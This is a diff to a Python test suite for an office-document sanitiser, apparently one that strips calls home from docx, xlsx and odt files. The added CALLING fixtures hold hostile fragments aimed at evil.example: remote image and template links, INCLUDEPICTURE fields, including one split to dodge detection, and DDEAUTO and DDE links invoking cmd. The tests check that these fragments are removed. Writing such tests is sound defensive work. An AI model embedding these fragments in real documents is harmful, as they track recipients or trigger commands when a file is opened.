@@ -41,7 +41,7 @@ TELLING = {
     ),
     "word/_rels/settings.xml.rels": RELS.format(
         '<Relationship Id="r1" Type="u/t" Target="file:///C:/Users/CANARY/Normal.dotm" TargetMode="External"/>'
-        '<Relationship Id="r2" Type="u/h" Target="https://example.org/" TargetMode="External"/>'
+        '<Relationship Id="r2" Type="u/hyperlink" Target="https://example.org/" TargetMode="External"/>'
     ),
     "word/settings.xml": f'<w:settings {W}><w:rsids><w:rsid w:val="CANARY"/></w:rsids><w:zoom w:percent="90"/></w:settings>',
     "word/comments.xml": (
@@ -88,6 +88,38 @@ def test_what_is_read_in_an_office_file_comes_along():
     assert ("document.xml" in texts["_rels/.rels"], "thumbnail" in texts["_rels/.rels"]) == (True, False)
     with Image.open(io.BytesIO(made["word/media/image1.jpeg"])) as picture:
         assert (picture.format, picture.size) == ("JPEG", (12, 8))  # as it lies on its page: the page turns it
+
+
+CALLING = {
+    "word/_rels/document.xml.rels": RELS.format(
+        '<Relationship Id="r1" Type="u/image" Target="http://evil.example/who.png" TargetMode="External"/>'
+        '<Relationship Id="r2" Type="u/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+    ),
+    "word/header1.xml": f'<w:p {W}><w:instrText> INCLUDEPICTURE "http://evil.example/who.png" </w:instrText></w:p>',
+    "word/header2.xml": f'<w:p {W}><w:fldSimple w:instr=" DDEAUTO cmd evil.example "/></w:p>',
+    "word/header3.xml": f'<w:p {W}><w:instrText>INCLUDEP</w:instrText><w:instrText>ICTURE "http://evil.example"</w:instrText></w:p>',
+    "word/header4.xml": '<v:shape xmlns:v="urn:v"><v:imagedata src="http://evil.example/who.png"/></v:shape>',
+    "xl/connections.xml": '<connections><connection><webPr url="http://evil.example/"/></connection></connections>',
+    "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="evil.example"/></externalLink>',
+    "content.xml": '<o:text xmlns:o="urn:o" xmlns:l="urn:l"><o:image l:href="//evil.example/who.png"/></o:text>',
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("part", CALLING)
+def test_nothing_in_an_office_file_calls_its_sender_when_it_is_opened(part):
+    made = opened(copy_of("office", docx_of("Наредба", **{part: CALLING[part]})))
+    assert b"evil" not in made[part]
+
+
+def test_what_a_reader_follows_and_the_number_of_the_page_stay():
+    words = (
+        f'<w:p {W}><w:instrText> PAGE \\* MERGEFORMAT </w:instrText><w:instrText> HYPERLINK "https://example.org/" '
+        '</w:instrText><t:a xmlns:t="urn:t" xmlns:l="urn:l" l:href="https://example.org/law"/></w:p>'
+    )
+    made = opened(copy_of("office", docx_of("Наредба", **{"word/footer1.xml": words})))["word/footer1.xml"].decode()
+    assert "PAGE" in made
+    assert "HYPERLINK" in made
+    assert "https://example.org/law" in made
 
 
 ODT = {
